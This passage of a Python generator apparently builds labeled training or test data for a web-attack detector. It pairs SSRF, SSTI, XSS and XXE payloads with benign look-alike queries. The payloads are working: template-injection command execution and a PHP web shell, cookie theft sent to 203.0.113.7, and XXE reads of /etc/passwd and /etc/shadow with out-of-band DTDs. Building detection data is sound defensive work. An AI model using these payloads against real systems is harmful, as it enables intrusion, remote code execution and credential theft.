    g.query("http://kubernetes.default.svc/api/v1/namespaces/kube-system/secrets", False, *prev, "url", [])
    g.query("http://\u2460\u2461\u2466.\u24ea.\u24ea.\u2460/", True, *prev, "url", [])
    g.json("http://127\u30020\u30020\u30021:8500/v1/agent/self", True, *avatar, {"avatar_url": PH}, method="PUT")
    g.query("http://[::]:80/", True, *img, "image", [])
    g.json("http://0.0.0.0:9200/_cat/indices", False, *hooks, {"name": "es", "webhook_url": PH})
    g.header(
        "169.254.169.254",
        False,
        "shop.northwind-outfitters.com",
        "/password/reset",
        "X-Forwarded-Host",
        method="POST",
        body="email=pat%40example.com",
        ctype="application/x-www-form-urlencoded",
    )
    g.header(
        "http://127.0.0.1:8080/actuator/env", False, "news.dailyharbor.news", "/2026/12/05/harbor-festival", "Referer"
    )
    g.cookie("http://192.168.0.1/cgi-bin/config.exp", False, *feeds, "last_feed", [("rw_sid", rhex(24))])
    g.multipart(
        "http://169.254.169.254/metadata/instance?api-version=2021-02-01",
        False,
        "files.docuvault.com",
        "/import/url",
        [part("source_url", PH), part("folder", "imports")],
    )
    g.xml(
        "http://169.254.169.254/latest/user-data",
        False,
        "api.shipmatic.io",
        "/v1/soap/callbacks",
        '<?xml version="1.0"?><subscription><event>delivered</event><callback>{v}</callback></subscription>',
    )
    g.xml(
        "jar:http://127.0.0.1:8080/x.jar!/",
        True,
        "api.shipmatic.io",
        "/v1/soap/callbacks",
        '<?xml version="1.0"?><subscription><event>label</event><callback>{v}</callback></subscription>',
    )
    g.path("http://169.254.169.254/latest/meta-data/", False, "img.picturely.app", "/proxy/{}", safe=":/")


def attacks_ssti():
    g = A("ssti")
    mailp = ("mail.postbox-tools.com", "/api/templates/preview")
    notif = ("app.tasklane.io", "/api/notifications/preview")
    greet = ("shop.mercato.app", "/greeting")
    pages = ("cms.saltmarsh.dev", "/admin/pages/render")
    invp = ("api.invoicely.app", "/v1/invoices/preview")
    stmt = ("portal.bankcore.io", "/statements/preview")

    g.query("{{7*7}}", False, *greet, "name", [])
    g.query("${7*7}", False, *greet, "name", [])
    g.query("<%= 7*7 %>", False, *greet, "name", [])
    g.query("#{7*7}", False, "search.libris.org", "/api/v1/search", "q", [])
    g.json("{{config.items()}}", False, *mailp, {"subject": "Welcome", "body_template": PH})
    g.json("{{''.__class__.__mro__[1].__subclasses__()}}", False, *mailp, {"subject": "Hi", "body_template": PH})
    g.json(
        "{{cycler.__init__.__globals__.os.popen('id').read()}}",
        True,
        *mailp,
        {"subject": "Hi", "body_template": PH},
        mode="u",
    )
    g.query(
        "{{request.application.__globals__.__builtins__.__import__('os').popen('id').read()}}",
        True,
        *notif,
        "template",
        [],
        mode="mixed",
    )
    g.form(
        "{{lipsum.__globals__['os'].popen('whoami').read()}}",
        True,
        *pages,
        "content",
        [("slug", "about")],
        mode="mixed",
    )
    g.json(
        "{{request|attr('application')|attr('\\x5f\\x5fglobals\\x5f\\x5f')|attr('\\x5f\\x5fgetitem\\x5f\\x5f')('\\x5f\\x5fbuiltins\\x5f\\x5f')|attr('\\x5f\\x5fgetitem\\x5f\\x5f')('\\x5f\\x5fimport\\x5f\\x5f')('os')|attr('popen')('id')|attr('read')()}}",
        True,
        *mailp,
        {"subject": "x", "body_template": PH},
    )
    g.json(
        "{{self._TemplateReference__context.cycler.__init__.__globals__.os.popen('id').read()}}",
        True,
        *mailp,
        {"subject": "x", "body_template": PH},
    )
    g.json(
        "{% set x = 'o'~'s' %}{{ lipsum.__globals__[x].popen('id').read() }}",
        True,
        *invp,
        {"invoice_id": "INV-2291", "footer": PH},
    )
    g.query(
        "{{ ()|attr(request.args.c)|attr(request.args.m) }}",
        True,
        *notif,
        "template",
        [("c", "__class__"), ("m", "__mro__")],
    )
    g.json(
        "{{_self.env.registerUndefinedFilterCallback('exec')}}{{_self.env.getFilter('id')}}",
        False,
        *invp,
        {"invoice_id": "INV-2292", "footer": PH},
    )
    g.form("{{['id']|filter('system')}}", False, *pages, "content", [("slug", "contact")])
    g.form("{{['cat /etc/passwd']|map('passthru')|join}}", True, *pages, "content", [("slug", "faq")])
    g.json(
        '<#assign ex="freemarker.template.utility.Execute"?new()>${ex("id")}',
        False,
        *stmt,
        {"layout": PH, "month": "2026-11"},
    )
    g.query('${"freemarker.template.utility.Execute"?new()("whoami")}', False, *stmt, "title", [("month", "2026-10")])
    g.json(
        "#set($rt=$x.class.forName('java.lang.Runtime'))#set($p=$rt.getRuntime().exec('id'))$p.waitFor()",
        False,
        *stmt,
        {"layout": PH},
    )
    g.query("__${T(java.lang.Runtime).getRuntime().exec('id')}__::.x", False, "portal.bankcore.io", "/doc", "lang", [])
    g.form(
        "*{T(java.lang.Runtime).getRuntime().exec('id')}",
        False,
        "portal.bankcore.io",
        "/profile/update",
        "nickname",
        [("email", "x@example.com")],
    )
    g.form("<%= `id` %>", False, "www.railsdemo-store.com", "/reviews", "review[body]", [("review[rating]", "5")])
    g.json(
        "<%= system('cat /etc/passwd') %>",
        False,
        "www.railsdemo-store.com",
        "/api/email_templates",
        {"name": "promo", "erb": PH},
    )
    g.query("<%= IO.popen('ls').readlines %>", False, "www.railsdemo-store.com", "/preview", "tpl", [])
    g.json(
        '{{#with "s" as |string|}}{{#with "e"}}{{#with split as |conslist|}}{{this.pop}}{{this.push (lookup string.sub "constructor")}}{{this.pop}}{{#with string.split as |codelist|}}{{this.pop}}{{this.push "return require(\'child_process\').execSync(\'id\');"}}{{this.pop}}{{#each conslist}}{{#with (string.sub.apply 0 codelist)}}{{this}}{{/with}}{{/each}}{{/with}}{{/with}}{{/with}}{{/with}}',
        True,
        "api.cardmaker.app",
        "/v1/cards/render",
        {"template": PH, "data": {"name": "Ana"}},
    )
    g.json(
        "#{function(){localLoad=global.process.mainModule.constructor._load;sh=localLoad('child_process').exec('id')}()}",
        False,
        "api.cardmaker.app",
        "/v1/cards/render",
        {"engine": "pug", "template": PH},
    )
    g.query("{system('id')}", False, "legacy.bluefinch.co.uk", "/newsletter/preview.php", "title", [])
    g.form(
        "{php}echo `id`;{/php}", False, "legacy.bluefinch.co.uk", "/newsletter/save.php", "body", [("list", "weekly")]
    )
    g.json(
        "{Smarty_Internal_Write_File::writeFile($SCRIPT_NAME,\"<?php passthru($_GET['c']); ?>\",self::clearConfig())}",
        True,
        "legacy.bluefinch.co.uk",
        "/api/blocks",
        {"block": PH},
    )
    g.json("<%import os%>${os.popen('id').read()}", False, *invp, {"invoice_id": "INV-2293", "footer": PH})
    g.json("${self.module.cache.util.os.system('id')}", True, *invp, {"invoice_id": "INV-2294", "footer": PH})
    g.query("{{range .Users}}{{.Email}}:{{.PasswordHash}} {{end}}", False, "status.fleetops.net", "/render", "tmpl", [])
    g.json("{% import os %}{{ os.popen('id').read() }}", False, *mailp, {"subject": "x", "body_template": PH})
    g.json(
        b64("Hello {{ cycler.__init__.__globals__.os.popen('id').read() }}"),
        True,
        *mailp,
        {"subject": "x", "template_b64": PH},
    )
    g.json("{{7*'7'}}", True, *notif, {"template": PH}, mode="u")
    g.xml(
        "{{config.__class__.__init__.__globals__['os'].popen('id').read()}}",
        True,
        "mail.postbox-tools.com",
        "/api/templates",
        '<?xml version="1.0"?><template><name>promo</name><body>{v}</body></template>',
        mode="ent",
    )
    g.query("%7B%7B7*7%7D%7D", True, *greet, "name", [])
    g.header("{{7*7}}${7*7}<%=7*7%>", False, "app.tasklane.io", "/api/me", "X-Display-Name")
    g.cookie(
        "{{get_flashed_messages.__globals__.__builtins__.open('/etc/passwd').read()}}",
        True,
        *greet,
        "name",
        [("sid", rhex(20))],
        mode="all",
    )
    g.multipart(
        "Dear {{ user.name }},\n{{ cycler.__init__.__globals__.os.popen('id').read() }}\n",
        False,
        "mail.postbox-tools.com",
        "/api/templates/upload",
        [part("name", "renewal"), part("file", PH, "renewal.j2", "text/plain")],
    )


def attacks_xss():
    g = A("xss")
    srch = ("shop.northwind-outfitters.com", "/search")
    err = ("www.bluefinch.co.uk", "/error")
    prof = ("app.tasklane.io", "/api/profile")
    cmt = ("blog.saltmarsh.dev", "/api/comments")
    forum = ("forum.gearheads.community", "/post/reply")
    arts = ("cms.dailyharbor.news", "/api/v2/articles")

    g.query("<script>alert(document.domain)</script>", False, *srch, "q", [])
    g.query("<img src=x onerror=alert(1)>", False, *srch, "q", [("page", "2")], mode="lite")
    g.query("<svg onload=alert(1)>", False, *err, "msg", [])
    g.query("\"><script>fetch('https://203.0.113.7/c?'+document.cookie)</script>", False, *srch, "q", [])
    g.json("javascript:alert(1)", False, *prof, {"website": PH, "bio": "hi"}, method="PATCH")
    g.json("jav&#x09;ascript:alert(1)", True, *prof, {"website": PH}, method="PATCH")
    g.json(
        "&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)",
        True,
        *cmt,
        {"post_id": 88, "link": PH, "body": "see link"},
    )
    g.json('<a href="java\nscript:alert(1)">x</a>', True, *cmt, {"post_id": 88, "body": PH})
    g.form("<svg><animate onbegin=alert(1) attributeName=x dur=1s>", True, *forum, "message", [("thread", "4412")])
    g.form(
        "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>",
        True,
        *forum,
        "message",
        [("thread", "4412")],
    )
    g.form(
        '<noscript><p title="</noscript><img src=x onerror=alert(1)>">', True, *forum, "message", [("thread", "4413")]
    )
    g.query("<img src=x onerror=alert`1`>", True, *srch, "q", [], mode="lite")
    g.query("<img src=x onerror=(alert)(1)>", True, *srch, "q", [])
    g.query("<svg/onload=window['al'+'ert'](1)>", True, *err, "name", [])
    g.json("<details open ontoggle=alert(1)>", False, *prof, {"bio": PH}, method="PATCH")
    g.json(
        '<iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;"></iframe>',
        True,
        *arts,
        {"title": "News", "body_html": PH},
        method="PUT",
    )
    g.json(
        '<a id=defaultAvatar><a id=defaultAvatar name=avatar href="cid:&quot;onerror=alert(1)//">',
        True,
        *cmt,
        {"post_id": 90, "body": PH},
    )
    g.query(
        "jaVasCript:/*-/*`/*\\`/*'/*\"/**/(/* */oNcliCk=alert(1) )//%0D%0A%0d%0a//</stYle/</titLe/</teXtarEa/</scRipt/--!>\\x3csVg/<sVg/oNloAd=alert(1)//>\\x3e",
        True,
        *srch,
        "q",
        [],
    )
    g.query("'-alert(1)-'", True, "www.bluefinch.co.uk", "/checkout/step2", "ref", [("cart", "8812")])
    g.query('";alert(1);//', True, "www.bluefinch.co.uk", "/checkout/step2", "ref", [])
    g.query("<ScRiPt>prompt(1)</sCrIpT>", True, *srch, "q", [])
    g.query("%3Cscript%3Ealert(1)%3C/script%3E", True, *err, "msg", [])
    g.query("\uff1cscript\uff1ealert(1)\uff1c/script\uff1e", True, *srch, "q", [])
    g.json(
        "<img src=1 onerror=\"eval(atob('" + b64("alert(document.cookie)") + "'))\">",
        True,
        *cmt,
        {"post_id": 91, "body": PH},
    )
    g.form(
        "<input autofocus onfocus=alert(1)>", False, *forum, "subject", [("thread", "4414"), ("message", "same here")]
    )
    g.json(
        '<object data="data:text/html;base64,' + b64("<script>alert(1)</script>") + '"></object>',
        True,
        *arts,
        {"title": "x", "body_html": PH},
        method="PUT",
    )
    g.json('<a href="&#x6a;avascript&colon;alert(1)">click</a>', True, *cmt, {"post_id": 92, "body": PH})
    g.query("${alert(document.cookie)}", True, "app.tasklane.io", "/share", "title", [])
    g.form(
        '<style>@keyframes x{}</style><p style="animation-name:x" onanimationstart=alert(1)>',
        True,
        *forum,
        "message",
        [("thread", "4415")],
    )
    g.json("<svg><script href=data:,alert(1) />", True, *prof, {"bio": PH}, method="PATCH")
    g.json("<script>alert(1)</script>", True, *cmt, {"post_id": 93, "body": PH}, mode="u")
    g.xml(
        "<script>alert(document.domain)</script>",
        True,
        "cms.dailyharbor.news",
        "/api/feeds/ingest",
        '<?xml version="1.0"?><item><title>Breaking</title><description>{v}</description></item>',
        mode="cdata",
    )
    g.header('https://www.google.com/"><script>alert(1)</script>', False, "cms.dailyharbor.news", "/", "Referer")
    g.header("<script src=//203.0.113.7/x.js></script>", False, "support.helpdeskr.com", "/", "User-Agent")
    g.cookie('"><img src=x onerror=alert(1)>', False, "www.bluefinch.co.uk", "/", "last_viewed", [("cart", "0")])
    g.multipart(
        "'><svg onload=alert(1)>.png",
        False,
        "support.helpdeskr.com",
        "/tickets/new",
        [part("subject", "Broken image"), part("attachment", SVG_STUB, PH, "image/png")],
    )
    g.multipart(
        '<svg xmlns="http://www.w3.org/2000/svg"><script>alert(document.domain)</script></svg>',
        False,
        "support.helpdeskr.com",
        "/tickets/new",
        [part("subject", "Logo"), part("attachment", PH, "logo.svg", "image/svg+xml")],
    )
    g.path("<script>alert(1)</script>", False, "shop.northwind-outfitters.com", "/search/{}")
    g.query_key("<script>alert(1)</script>", "1", False, *srch, [("q", "mug")], kmode="std")
    g.jkey(
        "<img src=x onerror=alert(1)>",
        False,
        "api.tasklane.io",
        "/v2/custom-fields",
        {"<img src=x onerror=alert(1)>": 1, "board": "ops"},
    )


XD = '<?xml version="1.0" encoding="UTF-8"?>\n'


def utf7_encode(text):
    """UTF-7 where every character other than letters, digits and space is base64-shifted."""
    out = []
    for ch in text:
        if (ch.isascii() and ch.isalnum()) or ch in " \n":
            out.append(ch)
        else:
            out.append("+" + base64.b64encode(ch.encode("utf-16-be")).decode().rstrip("=") + "-")
    return "".join(out)


def attacks_xxe():
    g = A("xxe")
    imp = ("api.cartwheel.io", "/v1/orders/import")
    inv = ("api.ledgerly.app", "/v1/invoices/xml")
    soap = ("soap.bankcore.io", "/ws/AccountService")
    feeds = ("feeds.readwell.app", "/api/feeds/validate")

    def X(doc, hard, host, path, ctype="application/xml", **kw):
        g.raw("xml", doc, hard, host, path, doc, ctype, **kw)

    X(
        XD
        + '<!DOCTYPE order [\n  <!ENTITY xxe SYSTEM "file:///etc/passwd">\n]>\n<order><id>1001</id><note>&xxe;</note></order>',
        False,
        *imp,
    )
    X(
        '<?xml version="1.0"?><!DOCTYPE r [<!ENTITY meta SYSTEM "http://169.254.169.254/latest/meta-data/iam/security-credentials/">]><invoice><customer>&meta;</customer></invoice>',
        False,
        *inv,
    )
    X(
        '<?xml version="1.0"?>\n<!DOCTYPE data [\n  <!ENTITY % remote SYSTEM "http://203.0.113.9/evil.dtd">\n  %remote;\n]>\n<data>1</data>',
        False,
        *imp,
    )
    X(
        '<?xml version="1.0"?>\n<!DOCTYPE message [\n  <!ENTITY % local_dtd SYSTEM "file:///usr/share/yelp/dtd/docbookx.dtd">\n  <!ENTITY % ISOamso \'\n    <!ENTITY &#x25; file SYSTEM "file:///etc/passwd">\n    <!ENTITY &#x25; eval "<!ENTITY &#x26;#x25; error SYSTEM &#x27;file:///nonexistent/&#x25;file;&#x27;>">\n    &#x25;eval;\n    &#x25;error;\n  \'>\n  %local_dtd;\n]>\n<message>hi</message>',
        True,
        *inv,
    )
    X(
        '<order xmlns:xi="http://www.w3.org/2001/XInclude"><id>7</id><note><xi:include parse="text" href="file:///etc/passwd"/></note></order>',
        True,
        *imp,
    )
    svg = '<?xml version="1.0" standalone="yes"?>\n<!DOCTYPE svg [<!ENTITY host SYSTEM "file:///etc/hostname">]>\n<svg xmlns="http://www.w3.org/2000/svg" width="200" height="40"><text x="0" y="20">&host;</text></svg>'
    g.multipart(
        svg, False, "api.fitpulse.app", "/v2/profile/avatar", [part("avatar", PH, "avatar.svg", "image/svg+xml")]
    )
    docx = (
        XD.replace('"?>', '" standalone="yes"?>')
        + '<!DOCTYPE w:document [<!ENTITY x SYSTEM "http://203.0.113.12/docx-oob">]>\n<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body><w:p><w:r><w:t>&x;</w:t></w:r></w:p></w:body></w:document>'
    )
    g.multipart(
        docx,
        False,
        "files.docuvault.com",
        "/api/convert/docx-part",
        [part("part", "word/document.xml"), part("file", PH, "document.xml", "application/xml")],
    )
    doc16 = '<?xml version="1.0" encoding="UTF-16BE"?><!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]><r>&x;</r>'
    g.raw("xml", doc16, True, *imp, "".join("\x00" + c for c in doc16), "application/xml; charset=utf-16be")
    doc16le = (
        '<?xml version="1.0" encoding="UTF-16LE"?><!DOCTYPE r [<!ENTITY x SYSTEM "http://203.0.113.13/le">]><r>&x;</r>'
    )
    g.raw("xml", doc16le, True, *inv, "".join(c + "\x00" for c in doc16le), "text/xml; charset=utf-16le")
    inner7 = '<!DOCTYPE foo [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>\n<foo>&xxe;</foo>'
    X('<?xml version="1.0" encoding="UTF-7"?>\n' + utf7_encode(inner7), True, *feeds)
    lol = ['<!ENTITY lol "lol">']
    for i in range(2, 7):
        prev = "lol" if i == 2 else f"lol{i - 1}"
        lol.append(f'<!ENTITY lol{i} "' + (f"&{prev};" * 10) + '">')
    X('<?xml version="1.0"?>\n<!DOCTYPE lolz [\n ' + "\n ".join(lol) + "\n]>\n<lolz>&lol6;</lolz>", False, *feeds)
    X(
        '<?xml version="1.0"?>\n<!DOCTYPE config SYSTEM "http://203.0.113.14/config.dtd">\n<config><name>&ext;</name></config>',
        False,
        "admin.pressroom.media",
        "/api/settings/import",
    )
    X(
        XD
        + '<!DOCTYPE r [<!ENTITY src SYSTEM "php://filter/convert.base64-encode/resource=/var/www/html/config.php">]>\n<post><title>t</title><body>&src;</body></post>',
        False,
        "cms.saltmarsh.dev",
        "/xmlrpc.php",
        ctype="text/xml",
    )
    X(
        XD + '<!DOCTYPE r [<!ENTITY cmd SYSTEM "expect://id">]>\n<r><q>&cmd;</q></r>',
        False,
        "cms.saltmarsh.dev",
        "/api/import",
    )
    X(
        XD + '<!DOCTYPE r [<!ENTITY j SYSTEM "jar:http://203.0.113.15/payload.zip!/data.txt">]>\n<r>&j;</r>',
        True,
        *soap,
        ctype="text/xml",
    )
    X(XD + '<!DOCTYPE r [<!ENTITY n SYSTEM "netdoc:/etc/passwd">]>\n<r>&n;</r>', True, *soap, ctype="text/xml")
    X(
        XD
        + '<!DOCTYPE r [<!ENTITY w SYSTEM "file:///c:/windows/win.ini">]>\n<timesheet><week>48</week><comment>&w;</comment></timesheet>',
        False,
        "hr.staffbook.io",
        "/api/timesheets",
    )
    X(
        '<?xml version="1.0"?>\n<!DOCTYPE soapenv:Envelope [<!ENTITY f SYSTEM "file:///etc/shadow">]>\n<soapenv:Envelope xmlns:soapenv="http://schemas.xmlsoap.org/soap/envelope/"><soapenv:Body><getAccount><accountId>&f;</accountId></getAccount></soapenv:Body></soapenv:Envelope>',
        False,
        *soap,
        ctype="text/xml; charset=utf-8",
    )
    X(
        '<?xml version="1.0"?>\n<!DOCTYPE rss [<!ENTITY e SYSTEM "file:///etc/group">]>\n<rss version="2.0"><channel><title>Feed</title><item><title>&e;</title><link>https://example.org/a</link></item></channel></rss>',
        False,
        *feeds,
        ctype="application/rss+xml",
    )
    saml = '<?xml version="1.0"?><!DOCTYPE samlp:Response [<!ENTITY s SYSTEM "file:///etc/passwd">]><samlp:Response xmlns:samlp="urn:oasis:names:tc:SAML:2.0:protocol" ID="_a1" Version="2.0"><saml:Issuer xmlns:saml="urn:oasis:names:tc:SAML:2.0:assertion">&s;</saml:Issuer></samlp:Response>'
    g.form(b64(saml), True, "sso.harborbank.com", "/saml/acs", "SAMLResponse", [("RelayState", "/dashboard")])
    X(
        "<?xml   version=\"1.0\"  ?>\n<!DOCTYPE\n  foo\t[ <!ENTITY\txxe   SYSTEM\n   'file:///etc/passwd' > ]>\n<foo>&xxe;</foo>",
        True,
        *imp,
    )
    X(
        '<?xml version="1.0"?>\n<!DOCTYPE order PUBLIC "-//Acme//DTD Order 1.0//EN" "http://203.0.113.16/order.dtd">\n<order><id>5</id></order>',
        False,
        *imp,
    )
    X(
        '<?xml version="1.0"?>\n<!DOCTYPE r [\n <!ENTITY % start "<![CDATA[">\n <!ENTITY % file SYSTEM "file:///etc/fstab">\n <!ENTITY % end "]]>">\n <!ENTITY % dtd SYSTEM "http://203.0.113.9/join.dtd">\n %dtd;\n]>\n<r>&all;</r>',
        True,
        *inv,
    )
    X(
        '<?xml version="1.0"?>\n<!DOCTYPE r [\n <!ENTITY % a "<!ENTITY &#x25; b SYSTEM \'http://203.0.113.17/nested.dtd\'>">\n %a;\n %b;\n]>\n<r/>',
        True,
        *inv,
    )
    doc_json = '<?xml version="1.0"?><!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]><a>&b;</a>'
    g.json(doc_json, False, "api.ledgerly.app", "/v1/imports", {"format": "ubl", "xml": PH})
    doc_q = '<?xml version="1.0"?><!DOCTYPE q [<!ENTITY z SYSTEM "http://203.0.113.18/q">]><q>&z;</q>'
    g.query(doc_q, False, "api.shipmatic.io", "/v1/rates/xml", "xml", [("carrier", "ups")])
    X(
        '<?xml version="1.0"?>\n<!DOCTYPE login [<!ENTITY p SYSTEM "file:///etc/passwd">]>\n<login><username>&p;</username><password>x</password></login>',
        False,
        "app.tasklane.io",
        "/api/login",
    )
    xlsx = (
        XD
        + '<!DOCTYPE sst [<!ENTITY s SYSTEM "http://203.0.113.19/xlsx">]>\n<sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" count="1" uniqueCount="1"><si><t>&s;</t></si></sst>'
    )
    g.multipart(
        xlsx,
        False,
        "api.ledgerly.app",
        "/v1/spreadsheets/parts",
        [part("part", "xl/sharedStrings.xml"), part("file", PH, "sharedStrings.xml", "application/xml")],
    )
    X(
        XD + '<!DOCTYPE r [<!ENTITY g SYSTEM "gopher://127.0.0.1:25/_HELO%20x">]>\n<r>&g;</r>',
        False,
        *soap,
        ctype="text/xml",
    )
    X(
        XD + '<!DOCTYPE r [<!ENTITY env SYSTEM "file:///proc/self/environ">]>\n<device><serial>&env;</serial></device>',
        False,
        "mdm.fleetops.net",
        "/api/devices/checkin",
    )
    X(
        '<?xml version="1.0"?>\n<!DOCTYPE r [\n <!ENTITY % file SYSTEM "file:///etc/passwd">\n <!ENTITY % eval "<!ENTITY &#x25; error SYSTEM \'file:///nonexistent/%file;\'>">\n %eval;\n %error;\n]>\n<r/>',
        True,
        *inv,
    )
    X(XD + '<!DOCTYPE r [<!ENTITY % ftp SYSTEM "ftp://203.0.113.9:2121/x.dtd"> %ftp;]>\n<r>1</r>', False, *imp)
    gpx = (
        XD
        + '<!DOCTYPE gpx [<!ENTITY t SYSTEM "file:///etc/passwd">]>\n<gpx version="1.1" creator="x"><trk><name>&t;</name></trk></gpx>'
    )
    g.multipart(
        gpx,
        False,
        "api.fitpulse.app",
        "/v2/activities/import",
        [part("activity", PH, "morning-run.gpx", "application/gpx+xml")],
    )
    X(
        '<?xml version="1.0"?><soapenv:Envelope xmlns:soapenv="http://schemas.xmlsoap.org/soap/envelope/" xmlns:xi="http://www.w3.org/2001/XInclude"><soapenv:Body><getAccount><accountId><xi:include parse="text" href="file:///etc/hosts"/></accountId></getAccount></soapenv:Body></soapenv:Envelope>',
        True,
        *soap,
        ctype="text/xml",
    )
    X(
        '<?xml version="1.0"?>\n<!-- order export v2 -->\n<!DOCTYPE order [\n  <!-- legacy -->\n  <!ENTITY\n     xxe\n     SYSTEM\n     "file:///etc/passwd"\n  >\n]>\n<order><id>9</id><note>&xxe;</note></order>',
        True,
        *imp,
    )
    X(
        '<?xml version="1.0"?>\n<!DOCTYPE methodCall [<!ENTITY x SYSTEM "file:///etc/shadow">]>\n<methodCall><methodName>pingback.ping</methodName><params><param><value><string>&x;</string></value></param></params></methodCall>',
        False,
        "cms.saltmarsh.dev",
        "/xmlrpc.php",
        ctype="text/xml",
    )
    X(XD + '<!DOCTYPE r [<!ENTITY i SYSTEM "http://[::1]:8080/admin/config">]>\n<r>&i;</r>', False, *inv)
    doc_u = '<?xml version="1.0"?><!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/hosts">]><a>&b;</a>'
    g.json(doc_u, True, "api.ledgerly.app", "/v1/imports", {"format": "ubl", "xml": PH}, mode="u")
    svgx = '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xi="http://www.w3.org/2001/XInclude" width="300" height="60"><text y="20"><xi:include parse="text" href="file:///etc/passwd"/></text></svg>'
    g.multipart(
        svgx,
        True,
        "img.picturely.app",
        "/api/v1/images",
        [part("album", "logos"), part("image", PH, "logo.svg", "image/svg+xml")],
    )
    doc_f = '<?xml version="1.0"?><!DOCTYPE c [<!ENTITY k SYSTEM "file:///etc/passwd">]><cart><item>&k;</item></cart>'
    g.form(doc_f, False, "shop.northwind-outfitters.com", "/cart/import", "xml", [("format", "legacy")])


# ============================================================================
# BENIGN
# ============================================================================
B = lambda cat: Gen("benign", cat)

FIRST = [
    "Olivia",
    "Liam",
    "Amara",
    "Noah",
    "Sofia",
    "Mateo",
    "Hannah",
    "Yusuf",
    "Chloe",
    "Kenji",
    "Priya",
    "Lukas",
    "Isabel",
    "Tomasz",
    "Aoife",
    "Diego",
    "Mei",
    "Jonas",
    "Fatima",
    "Ethan",
    "Zoë",
    "Björn",
    "Siobhan",
    "Raúl",
]
LAST = [
    "O'Brien",
    "Nguyen",
    "Schmidt",
    "García",
    "Okafor",
    "Kowalski",
    "D'Angelo",
    "Smith-Jones",
    "MacDonald",
    "Ivanova",
    "Tanaka",
    "Dubois",
    "O'Connor",
    "Rossi",
    "Haddad",
    "de la Cruz",
    "Müller",
    "Patel",
    "St. John",
    "Van der Berg",
]
CITIES = [
    "London",
    "Dublin",
    "Berlin",
    "Lisbon",
    "Toronto",
    "Austin",
    "Melbourne",
    "Osaka",
    "Kraków",
    "São Paulo",
    "Zürich",
    "Cork",
]
PRODUCTS = [
    "Blue ceramic mug",
    "Trail running shoes",
    "Merino wool beanie",
    "USB-C charging cable 2m",
    "Cast iron skillet 26cm",
    "Noise-cancelling headphones",
    "Bamboo cutting board",
    "Yoga mat 6mm",
    "LED desk lamp",
    "Stainless water bottle 750ml",
]


def rname():
    return f"{RNG.choice(FIRST)} {RNG.choice(LAST)}"


def remail():
    f = RNG.choice(
        ["olivia", "liam.k", "amara_o", "noah88", "s.rossi", "kenji.t", "priya+shop", "jonas", "ethan.w", "mei.l"]
    )
    return f"{f}@{RNG.choice(['example.com', 'example.org', 'mail.example.net', 'example.co.uk'])}"


# ---------------------------------------------------------------- search
SEARCH_HARD = [
    "select all that apply",
    "union station chicago hours",
    "drop down menu css only",
    "how to exec a file in linux",
    "script writing software free",
    "alert dialog android kotlin",
    "O'Reilly learning python 5th edition",
    "tom's hardware ssd review",
    "select * from table where name like",
    "1=1 meaning in sql tutorial",
    "cat /etc/hosts explained",
    "what does ../ mean in a file path",
    "<br> vs <br/>",
    "javascript:void(0) link not working",
    "${HOME} variable in bash",
    "{{ }} angular interpolation",
    "rock & roll hall of fame tickets",
    "c++ vs c# for games",
    "and/or meaning in contracts",
    "insert coin arcade bar brooklyn",
    "delete key not working mac",
    "update drivers windows 11",
    "truncate text css ellipsis",
    "sleep apnea symptoms women",
    "shell shock ww1 symptoms",
    "ping pong table dimensions",
    "eval() vs Function() performance",
    "php echo vs print",
    "<script> tag placement head or body",
    "onload event image javascript",
    "curl command examples post json",
    "wget recursive download site",
    "powershell get-childitem recursive filter",
    "rm -rf node_modules windows",
    "order by desc limit 10 mysql",
    "group by having example",
    "sql injection prevention prepared statements",
    "xss prevention cheat sheet",
    "ldap filter syntax (&(objectClass=user))",
    "mongodb $ne operator example",
    "log4j ${jndi} vulnerability explained",
    "__proto__ vs prototype javascript",
    "jinja2 {% for %} loop example",
    "smtp bcc header explained",
    "crlf vs lf git windows",
    "where 1 = 1 dynamic sql",
    "waitfor delay sql server example",
    "char(13) char(10) excel newline",
    '"union" pacific railroad map',
    "--force-with-lease git",
]
SEARCH_PLAIN = [
    "running shoes size 10",
    "iphone 16 case",
    "best pizza near me",
    "flights london to lisbon march",
    "wireless earbuds noise cancelling",
    "organic coffee beans 1kg",
    "winter jacket men xl",
    "4k monitor 27 inch",
    "standing desk bamboo",
    "kids bike 16 inch",
    "chocolate birthday cake recipe",
    "used cars under 10000",
    "hotel barcelona sea view",
    "thick yoga mat",
    "cordless drill 18v",
    "gluten free bread",
    "garden hose 30m",
    "mortgage calculator",
    "weather dublin weekend",
    "train times cork to dublin",
    "leather wallet slim",
    "vegan protein powder",
    "cat food grain free",
    "laptop backpack waterproof",
    "electric kettle",
    "queen size duvet",
    "board games for families",
    "python list comprehension",
    "how to change a tyre",
    "marathon training plan 16 weeks",
    "annual report 2025",
    "privacy policy",
    "return policy",
    "gift cards",
    "student discount",
    "opening hours sunday",
    "size guide",
    "track my order",
    "dishwasher tablets",
    "sourdough starter",
    "bluetooth speaker outdoor",
    "phone charger fast",
    "winter boots women 39",
    "desk chair ergonomic",
    "christmas lights outdoor",
]


def benign_search():
    g = B("benign_search")
    sites = [
        ("shop.northwind-outfitters.com", "/search", "q"),
        ("www.bluefinch.co.uk", "/catalogsearch/result", "q"),
        ("search.libris.org", "/api/v1/search", "query"),
        ("help.tasklane.io", "/api/articles/search", "term"),
        ("news.dailyharbor.news", "/search", "s"),
        ("api.cartwheel.io", "/v1/products", "search"),
        ("stackhelp.devforum.io", "/search", "q"),
        ("www.recipebox.kitchen", "/find", "keywords"),
    ]
    extras = [
        [("page", "1")],
        [("sort", "relevance")],
        [("page", "2"), ("per_page", "24")],
        [("lang", "en")],
        [("category", "all"), ("in_stock", "true")],
        [],
        [("tab", "questions")],
        [("diet", "any")],
    ]
    items = [(s, True) for s in SEARCH_HARD] + [(s, False) for s in SEARCH_PLAIN]
    RNG.shuffle(items)
    for i, (term, hard) in enumerate(items):
        host, path, param = sites[i % len(sites)]
        kind = i % 10
        if kind < 7:
